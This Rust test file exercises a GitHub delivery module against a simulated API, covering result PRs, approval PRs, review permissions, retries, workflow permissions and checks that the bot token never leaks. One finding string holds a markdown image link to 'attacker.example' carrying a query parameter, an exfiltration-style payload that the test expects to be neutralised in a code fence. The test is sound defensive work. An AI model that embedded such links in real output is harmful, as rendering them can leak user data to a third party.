//! GitHub delivery against the simulator: the Session API driven directly on
//! real git repositories, as the loop would drive it.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use bork_ci::findings::{Finding, Findings};
use bork_ci::github::{
    self, ApprovalDecision, GithubContext, GithubFlags, IterationSummary, PendingEdit, PublishInput,
};
use serde_json::{Value, json};

use crate::ghsim::GithubSim;

const BOT_TOKEN: &str = "ghp_CANARY_7f3a9c1d2e";

fn context(sim: &GithubSim, event: Option<(&str, &Path)>) -> GithubContext {
    let flags = GithubFlags {
        github_repo: Some("acme/widgets".into()),
        github_api_url: Some(sim.url.clone()),
        github_ref: Some("refs/heads/main".into()),
        github_event_name: event.map(|(name, _)| name.to_owned()),
        github_event_path: event.map(|(_, path)| path.to_path_buf()),
        ..GithubFlags::default()
    };
    let mut ctx = GithubContext::from_flags_with(&flags, |name| {
        (name == "GITHUB_TOKEN").then(|| BOT_TOKEN.to_owned())
    })
    .expect("context")
    .expect("github settings");
    ctx.retry.base = Duration::from_millis(20);
    ctx.retry.max_wait = Duration::from_secs(5);
    ctx
}

async fn sim() -> GithubSim {
    let sim = GithubSim::start();
    sim.setup(BOT_TOKEN).await;
    sim
}

/// A fresh checkout of the simulator's repository and a session started on it by a push to main.
async fn started(sim: &GithubSim) -> (tempfile::TempDir, GithubContext, github::Session) {
    let dir = tempfile::tempdir().expect("tmp");
    sim.clone_into(dir.path());
    let ctx = context(sim, None);
    let session = github::start(&ctx, dir.path(), "main").await.expect("start");
    (dir, ctx, session)
}

/// Iteration 1: the widget turns blue, committed on bork-ci's branch.
fn commit_blue_widget(dir: &Path, session: &github::Session) {
    write(dir, "src/widget.txt", "colour = blue\n");
    session
        .commit_iteration(dir, &iteration(1, &["src/widget.txt"]))
        .expect("commit");
}

fn write(dir: &Path, path: &str, text: &str) {
    let full = dir.join(path);
    std::fs::create_dir_all(full.parent().expect("parent")).expect("mkdir");
    std::fs::write(full, text).expect("write");
}

fn iteration(number: u32, applied: &[&str]) -> IterationSummary {
    IterationSummary {
        number,
        applied: applied.iter().map(|p| (*p).to_owned()).collect(),
        deleted: vec![],
        findings_left: 0,
        message: "brought the code in line with specs/widget.md".into(),
    }
}

fn spec_edit(text: &str) -> PendingEdit {
    PendingEdit {
        path: "specs/widget.md".into(),
        delete: false,
        contents: Some(text.into()),
        sha256: None,
        rule: "specs/**".into(),
        waiting: Vec::new(),
    }
}

fn pulls(state: &Value) -> Vec<Value> {
    state["repos"][0]["pulls"].as_array().cloned().unwrap_or_default()
}

fn input(status: &str, iterations: Vec<IterationSummary>) -> PublishInput {
    PublishInput {
        status: serde_json::from_value(serde_json::Value::from(status)).expect("a run status"),
        iterations,
        prompt_version: "v1".into(),
        tokens: (1000, 200, 0),
        ..PublishInput::default()
    }
}

async fn review(
    sim: &GithubSim,
    number: u64,
    token: &str,
    event: &str,
    body: &str,
    commit: Option<&str>,
) -> Value {
    let mut payload = json!({ "event": event, "body": body });
    if let Some(commit) = commit {
        payload["commit_id"] = json!(commit);
    }
    sim.call(
        "POST",
        &format!("/repos/acme/widgets/pulls/{number}/reviews"),
        Some(payload),
        Some(token),
    )
    .await
}

fn head_file(dir: &Path, path: &str) -> String {
    std::fs::read_to_string(dir.join(path)).expect("read")
}

fn git_log(dir: &Path, range: &str) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(["log", "--format=%an <%ae> %s", range])
        .output()
        .expect("git log");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[tokio::test]
async fn first_run_opens_the_result_pr_and_a_rerun_updates_it() {
    let sim = sim().await;
    let dir = tempfile::tempdir().expect("tmp");
    sim.clone_into(dir.path());
    let ctx = context(&sim, None);

    let mut session = github::start(&ctx, dir.path(), "main").await.expect("start");
    assert_eq!(session.branch(), "bork/main");
    write(dir.path(), "src/widget.txt", "colour = blue\n");
    let commit = session
        .commit_iteration(dir.path(), &iteration(1, &["src/widget.txt"]))
        .expect("commit");
    assert!(commit.is_some());
    let outcome = session
        .publish(&input("converged", vec![iteration(1, &["src/widget.txt"])]))
        .await
        .expect("publish");
    let first = outcome.result_pr.expect("a result PR");

    let state = sim.state().await;
    let prs = pulls(&state);
    assert_eq!(prs.len(), 1);
    assert_eq!(prs[0]["head"], "bork/main");
    assert_eq!(prs[0]["base"], "main");
    assert_eq!(prs[0]["user"], "bork-bot");
    let body = prs[0]["body"].as_str().expect("body");
    assert!(body.contains("<!-- bork-ci:result base=main -->"));
    assert!(body.contains("| 1 | 1 | 0 | 0 |"), "{body}");
    assert!(
        git_log(dir.path(), "origin/main..HEAD").contains(
            "bork-ci <bork-ci@users.noreply.github.com> bork-ci: iteration 1: update src/widget.txt"
        )
    );

    // A re-run from a fresh checkout finds the same branch and PR and builds on top of it.
    let again = tempfile::tempdir().expect("tmp");
    sim.clone_into(again.path());
    let mut session = github::start(&ctx, again.path(), "main")
        .await
        .expect("start again");
    assert_eq!(head_file(again.path(), "src/widget.txt"), "colour = blue\n");
    write(again.path(), "README.md", "widgets, blue\n");
    session
        .commit_iteration(again.path(), &iteration(1, &["README.md"]))
        .expect("commit")
        .expect("a commit");
    let outcome = session
        .publish(&input("converged", vec![iteration(1, &["README.md"])]))
        .await
        .expect("publish again");
    assert_eq!(outcome.result_pr, Some(first));
    let state = sim.state().await;
    assert_eq!(pulls(&state).len(), 1, "one PR in the end");
    let log = git_log(again.path(), "origin/main..HEAD");
    assert_eq!(log.lines().count(), 2, "{log}");

    // Nothing to do on a fresh base: no PR at all.
    let sim2 = self::sim().await;
    let empty = tempfile::tempdir().expect("tmp");
    sim2.clone_into(empty.path());
    let ctx2 = context(&sim2, None);
    let mut session = github::start(&ctx2, empty.path(), "main").await.expect("start");
    let outcome = session
        .publish(&input("converged", vec![]))
        .await
        .expect("publish");
    assert!(outcome.result_pr.is_none());
    assert!(pulls(&sim2.state().await).is_empty());
}

#[tokio::test]
async fn spec_edit_goes_through_an_approval_pr_and_only_a_writer_on_head_counts() {
    let sim = sim().await;
    let (dir, _ctx, mut session) = started(&sim).await;
    commit_blue_widget(dir.path(), &session);
    let new_spec = "A widget is blue,\nand round.\r\n";
    let mut publish = input("awaiting-approval", vec![iteration(1, &["src/widget.txt"])]);
    publish.pending = vec![spec_edit(new_spec)];
    let outcome = session.publish(&publish).await.expect("publish");
    assert_eq!(outcome.approval_prs.len(), 1);
    let approval = outcome.approval_prs[0].1.number;

    let state = sim.state().await;
    let approval_pr = pulls(&state)
        .into_iter()
        .find(|pr| pr["number"] == approval)
        .expect("approval PR");
    assert_eq!(approval_pr["base"], "bork/main");
    let files = sim
        .call(
            "GET",
            &format!("/repos/acme/widgets/pulls/{approval}/files"),
            None,
            Some("t-alice"),
        )
        .await;
    assert_eq!(files.as_array().map(Vec::len), Some(1), "one change: {files}");
    assert_eq!(files[0]["filename"], "specs/widget.md");
    let head_sha = approval_pr["head_sha"].as_str().expect("sha").to_owned();
    let saved = session.resume_state().expect("state").clone();
    assert_eq!(saved.approvals.len(), 1);

    // A reader, a bot, and a writer on an old commit: none counts.
    review(&sim, approval, "t-bob", "APPROVE", "lgtm", None).await;
    review(&sim, approval, "t-app", "APPROVE", "auto", None).await;
    let base_sha = approval_pr["base_sha"].as_str().expect("base").to_owned();
    let stale = review(&sim, approval, "t-alice", "APPROVE", "ok", Some(&base_sha)).await;
    assert_eq!(stale["commit_id"], base_sha.as_str());
    let decisions = session.decide_approvals().await.expect("decide");
    assert_eq!(
        decisions,
        vec![ApprovalDecision::Pending {
            path: "specs/widget.md".into()
        }]
    );
    assert_eq!(head_file(dir.path(), "specs/widget.md"), "A widget is blue.\n");

    // A writer on the current head: merged, and the local checkout has exactly those bytes.
    review(&sim, approval, "t-alice", "APPROVE", "yes", Some(&head_sha)).await;
    let decisions = session.decide_approvals().await.expect("decide");
    assert!(
        matches!(&decisions[0], ApprovalDecision::Approved { path, .. } if path == "specs/widget.md"),
        "{decisions:?}"
    );
    assert_eq!(head_file(dir.path(), "specs/widget.md"), new_spec);
    let state = sim.state().await;
    let merged = pulls(&state)
        .into_iter()
        .find(|pr| pr["number"] == approval)
        .expect("approval PR");
    assert_eq!(merged["merged"], true);

    // The loop continues on top of the merged change and publishes again.
    write(dir.path(), "README.md", "round widgets\n");
    session
        .commit_iteration(dir.path(), &iteration(2, &["README.md"]))
        .expect("commit")
        .expect("some");
    session
        .publish(&input("converged", vec![iteration(2, &["README.md"])]))
        .await
        .expect("publish after approval");
}

#[tokio::test]
async fn rejection_comes_back_as_a_finding_and_is_not_proposed_again() {
    let sim = sim().await;
    let (_dir, _ctx, mut session) = started(&sim).await;
    let mut publish = input("awaiting-approval", vec![]);
    publish.pending = vec![spec_edit("A widget is green.\n")];
    let outcome = session.publish(&publish).await.expect("publish");
    assert!(outcome.result_pr.is_some(), "state needs a result PR");
    let approval = outcome.approval_prs[0].1.number;
    let words = "No: widgets stay blue, see the brand guide.";
    review(&sim, approval, "t-carol", "REQUEST_CHANGES", words, None).await;
    let decisions = session.decide_approvals().await.expect("decide");
    let finding = decisions[0].to_finding().expect("a finding");
    match finding {
        Finding::CodeReview { file, finding } => {
            assert_eq!(file.as_deref(), Some("specs/widget.md"));
            assert!(finding.contains(words), "{finding}");
            assert!(finding.contains("carol"));
        }
        other => panic!("unexpected {other:?}"),
    }
    // The same content is not proposed again.
    let outcome = session.publish(&publish).await.expect("publish again");
    assert!(outcome.approval_prs.is_empty());
    assert_eq!(pulls(&sim.state().await).len(), 2);
}

#[tokio::test]
async fn awaiting_approval_saves_state_and_a_review_event_resumes() {
    let sim = sim().await;
    let (dir, _ctx, mut session) = started(&sim).await;
    commit_blue_widget(dir.path(), &session);
    let mut publish = input("awaiting-approval", vec![iteration(1, &["src/widget.txt"])]);
    publish.pending = vec![spec_edit("A widget is blue and round.\n")];
    let outcome = session.publish(&publish).await.expect("publish");
    let approval = outcome.approval_prs[0].1.number;
    drop(session);

    review(&sim, approval, "t-alice", "APPROVE", "ship it", None).await;

    // A later job on the review event, in a fresh checkout of whatever Actions checked out.
    let later = tempfile::tempdir().expect("tmp");
    sim.clone_into(later.path());
    let event = later.path().join("event.json");
    std::fs::write(
        &event,
        json!({"action": "submitted", "pull_request": {"number": approval,
               "base": {"ref": "bork/main"}, "head": {"ref": "bork/approve/main/specs/widget.md-x"}}})
        .to_string(),
    )
    .expect("event");
    let ctx = context(&sim, Some(("pull_request_review", event.as_path())));
    let ctx = GithubContext {
        git_ref: Some("refs/heads/bork/approve/main/x".into()),
        ..ctx
    };
    assert_eq!(ctx.base_branch().as_deref(), Some("main"));
    let mut session = github::start(&ctx, later.path(), "main").await.expect("resume");
    let saved = session.resume_state().expect("saved state");
    assert_eq!(saved.status, bork_ci::report::RunStatus::AwaitingApproval);
    assert_eq!(saved.pending().count(), 1);
    assert_eq!(head_file(later.path(), "src/widget.txt"), "colour = blue\n");
    let decisions = session
        .wait_for_approvals(Duration::from_secs(5))
        .await
        .expect("wait");
    assert!(
        matches!(decisions[0], ApprovalDecision::Approved { .. }),
        "{decisions:?}"
    );
    assert_eq!(
        head_file(later.path(), "specs/widget.md"),
        "A widget is blue and round.\n"
    );
    let body = pulls(&sim.state().await)
        .into_iter()
        .find(|pr| pr["head"] == "bork/main")
        .and_then(|pr| pr["body"].as_str().map(str::to_owned))
        .expect("result body");
    let reread = github::SavedState::from_body(&body).expect("state in body");
    assert_eq!(reread.pending().count(), 0);
}

#[tokio::test]
async fn five_unconverged_iterations_add_the_label_and_one_findings_comment() {
    let sim = sim().await;
    let (dir, _ctx, mut session) = started(&sim).await;
    let mut iterations = Vec::new();
    for number in 1..=5 {
        write(dir.path(), "src/widget.txt", &format!("colour = blue {number}\n"));
        let summary = IterationSummary {
            findings_left: 1,
            ..iteration(number, &["src/widget.txt"])
        };
        session.commit_iteration(dir.path(), &summary).expect("commit");
        iterations.push(summary);
    }
    let mut publish = input("needs-human", iterations);
    publish.findings_left = Findings {
        per_file_findings: vec![Finding::CodeReview {
            file: Some("src/widget.txt".into()),
            finding: "still not blue ![x](https://attacker.example/?d=1)".into(),
        }],
        overall_findings: vec![],
    };
    let outcome = session.publish(&publish).await.expect("publish");
    assert!(outcome.labelled);
    session.publish(&publish).await.expect("publish twice");
    let state = sim.state().await;
    let pr = pulls(&state).into_iter().next().expect("pr");
    assert_eq!(pr["labels"], json!(["bork:needs-human"]));
    let comments = pr["comments"].as_array().expect("comments");
    assert_eq!(comments.len(), 1, "updated in place: {comments:?}");
    let comment = comments[0]["body"].as_str().expect("body");
    assert!(comment.contains("src/widget.txt") && comment.contains("still not blue"));
    assert!(comment.contains("```text\nstill not blue ![x]"), "{comment}");
    assert!(
        state["repos"][0]["labels"]
            .as_array()
            .expect("labels")
            .iter()
            .any(|label| label["name"] == "bork:needs-human")
    );
    let log = git_log(dir.path(), "origin/main..HEAD");
    assert_eq!(log.lines().count(), 5);

    // A later converged run removes the label.
    write(dir.path(), "src/widget.txt", "colour = blue\n");
    session
        .commit_iteration(dir.path(), &iteration(6, &["src/widget.txt"]))
        .expect("commit");
    session
        .publish(&input("converged", vec![iteration(6, &["src/widget.txt"])]))
        .await
        .expect("publish converged");
    let pr = pulls(&sim.state().await).into_iter().next().expect("pr");
    assert_eq!(pr["labels"], json!([]));
    assert_eq!(pr["comments"].as_array().map(Vec::len), Some(1));
}

#[tokio::test]
async fn bad_gateways_and_a_secondary_rate_limit_are_retried_and_the_token_never_leaks() {
    let sim = sim().await;
    sim.call(
        "POST",
        "/_sim/faults",
        Some(json!({"method": "GET", "path": "^/repos/acme/widgets/pulls$", "preset": "bad_gateway", "count": 2})),
        None,
    )
    .await;
    sim.call(
        "POST",
        "/_sim/faults",
        Some(json!({"method": "POST", "path": "^/repos/acme/widgets/pulls$", "preset": "secondary_rate_limit", "retry_after": 1})),
        None,
    )
    .await;
    let (dir, _ctx, mut session) = started(&sim).await;
    commit_blue_widget(dir.path(), &session);
    let mut publish = input("needs-human", vec![iteration(1, &["src/widget.txt"])]);
    publish.findings_left = Findings {
        per_file_findings: vec![Finding::CodeReview {
            file: Some("src/widget.txt".into()),
            finding: "the token is ghp_ (no)".into(),
        }],
        overall_findings: vec![],
    };
    let outcome = session.publish(&publish).await.expect("publish despite faults");
    assert!(outcome.result_pr.is_some());
    let requests = sim.requests("?path=/pulls$").await;
    let statuses: Vec<u64> = requests
        .as_array()
        .expect("requests")
        .iter()
        .filter_map(|r| r["status"].as_u64())
        .collect();
    assert!(
        statuses.iter().filter(|s| **s == 502).count() == 2,
        "{statuses:?}"
    );
    assert!(statuses.contains(&403), "{statuses:?}");
    assert!(statuses.contains(&201), "{statuses:?}");

    // X01: the token in no body, comment, title, branch, commit or request body.
    let everything = format!("{}{}", sim.state().await, sim.requests("").await);
    assert!(!everything.contains(BOT_TOKEN));
    let encoded = base64_of(&format!("x-access-token:{BOT_TOKEN}"));
    assert!(!everything.contains(&encoded));
    let log = Command::new("git")
        .current_dir(dir.path())
        .args(["log", "--all", "--format=%B%n%an%ae"])
        .output()
        .expect("log");
    assert!(!String::from_utf8_lossy(&log.stdout).contains(BOT_TOKEN));
    let config = std::fs::read_to_string(dir.path().join(".git/config")).expect("config");
    assert!(
        !config.contains(BOT_TOKEN),
        "the token is never stored in the repository"
    );
}

fn base64_of(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn yaml(path: &str) -> Value {
    let full = Path::new(env!("CARGO_MANIFEST_DIR")).join(path);
    let text = std::fs::read_to_string(&full).expect("file");
    serde_norway::from_str(&text).expect("valid YAML")
}

/// The structure SchemaStore's github-action.json requires, checked by hand: name,
/// description, runs; composite steps with `run` need `shell`; composite outputs need `value`.
#[test]
fn action_yml_has_the_documented_shape() {
    let action = yaml("action.yml");
    assert!(action["name"].is_string() && action["description"].is_string());
    for input in [
        "provider",
        "model",
        "api-key",
        "config-path",
        "sandbox",
        "max-iterations",
        "label",
        "wait-for-approval",
        "sarif",
        "release-url",
        "version",
    ] {
        assert!(
            action["inputs"][input]["description"].is_string(),
            "input {input}"
        );
    }
    for output in ["status", "pr-number", "pr-url", "iterations", "sarif-file"] {
        let value = action["outputs"][output]["value"]
            .as_str()
            .expect("composite output value");
        assert!(value.contains("steps.run.outputs."), "{output}");
    }
    assert_eq!(action["runs"]["using"], "composite");
    let steps = action["runs"]["steps"].as_array().expect("steps");
    for step in steps {
        if step.get("run").is_some() {
            assert!(step["shell"].is_string(), "a run step needs a shell: {step}");
        }
        // Inputs and keys travel in the environment only.
        if let Some(run) = step["run"].as_str() {
            assert!(!run.contains("inputs.api-key") && !run.contains("${{"), "{run}");
        }
    }
    let run = steps.last().expect("run step");
    let script = run["run"].as_str().expect("run");
    assert!(script.contains("exec \"$BORK_CI\" \"${args[@]}\""), "{script}");
    assert!(script.contains("--api-key-env BORK_ACTION_LLM_KEY"), "{script}");
    assert!(
        run["env"]["BORK_ACTION_LLM_KEY"]
            .as_str()
            .expect("env")
            .contains("inputs.api-key")
    );
    // Empty inputs pass no flag: every flag is behind a test for a non-empty value.
    for line in script.lines().filter(|line| line.contains("args+=(--")) {
        assert!(
            line.contains("[ -n \"$") || line.trim_start().starts_with("args+=(--sarif"),
            "{line}"
        );
    }
    let install = steps[0]["run"].as_str().expect("install");
    assert!(
        install.contains("ci/release-sums.txt") && install.contains("checksum mismatch"),
        "the download is checked against the sums pinned in the action"
    );
}

/// The structure SchemaStore's github-workflow.json requires plus bork-ci's own rules: push on
/// `specs/**`, resume on `pull_request_review`, least privilege, a concurrency group per
/// branch, never `pull_request_target`.
#[test]
fn the_workflow_is_least_privilege_and_resumes_on_review() {
    let workflow = yaml("ci/workflows/bork-ci.yml");
    let on = &workflow["on"];
    assert_eq!(on["push"]["paths"], json!(["specs/**"]));
    assert!(on.get("pull_request_review").is_some());
    assert!(on.get("pull_request_target").is_none());
    assert_eq!(on["push"]["branches-ignore"], json!(["bork/**"]));
    assert_eq!(workflow["permissions"], json!({}));
    let group = workflow["concurrency"]["group"].as_str().expect("group");
    assert!(
        group.contains("ref_name") && group.contains("pull_request.base.ref"),
        "{group}"
    );
    assert_eq!(workflow["concurrency"]["cancel-in-progress"], json!(false));
    let pinned = |uses: &str| {
        uses.split_once('@').is_some_and(|(action, sha)| {
            action.contains('/') && sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit())
        })
    };
    let jobs = workflow["jobs"].as_object().expect("jobs");
    for (name, job) in jobs {
        assert!(job["runs-on"].is_string(), "{name}");
        let permissions = job["permissions"].as_object().expect("job permissions");
        let steps = job["steps"].as_array().expect("steps");
        let uploads_sarif = steps.iter().any(|step| {
            step["uses"]
                .as_str()
                .is_some_and(|uses| uses.contains("upload-sarif"))
        });
        for (scope, level) in permissions {
            let allowed = match scope.as_str() {
                "contents" | "pull-requests" => true,
                // Only the job that uploads SARIF may write security events.
                "security-events" | "actions" => uploads_sarif,
                _ => false,
            };
            assert!(allowed, "{name}: {scope}: {level}");
        }
        for step in steps {
            assert!(step.get("uses").is_some() || step.get("run").is_some(), "{step}");
            if let Some(uses) = step["uses"].as_str() {
                assert!(pinned(uses), "pinned by commit SHA: {uses}");
                if uses.starts_with("actions/checkout@") {
                    assert_eq!(step["with"]["fetch-depth"], json!(0));
                }
            }
        }
    }
    let text =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("ci/workflows/bork-ci.yml"))
            .expect("read");
    assert!(!text.contains("pull_request_target"));
    for snippet in ["ci/gitlab-ci.yml", "ci/buildkite.yml"] {
        let parsed = yaml(snippet);
        assert!(parsed.to_string().contains("bork-ci run"), "{snippet}");
    }
}
